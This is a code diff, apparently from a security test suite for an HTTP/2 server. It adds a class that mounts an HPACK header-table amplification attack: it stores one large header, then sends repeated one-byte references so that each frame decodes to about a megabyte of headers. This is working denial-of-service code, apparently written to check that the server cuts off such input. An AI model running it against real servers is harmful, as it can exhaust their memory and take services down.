@@ -76,6 +76,20 @@ class ManyHeadersAreCut(_EndlessHeader):
         return hpack([("x%d" % sent, "y" * (FRAME_BYTES_MAX - 64))])
 
 
+class RepeatedHeadersAreCut(_EndlessHeader):
+    """One header goes into HPACK's table, and each byte that follows stands for all of it."""
+    value_bytes = 4000  # of the table's 4096
+    repeats = 250  # a megabyte of headers for each frame
+    enough_bytes = 250 * 16
+
+    def begin(self):
+        return b"\x40" + hpack_integer(1, 7) + b"x" + hpack_integer(self.value_bytes, 7) + b"y" * self.value_bytes
+
+    def more(self, sent):
+        time.sleep(0.01)
+        return bytes([0x80 | 62]) * self.repeats  # the newest entry of the table
+
+
 class _SilentConnections(Attack):
     """One address opens more connections than the server takes, and stays silent."""
     finding = "M2"
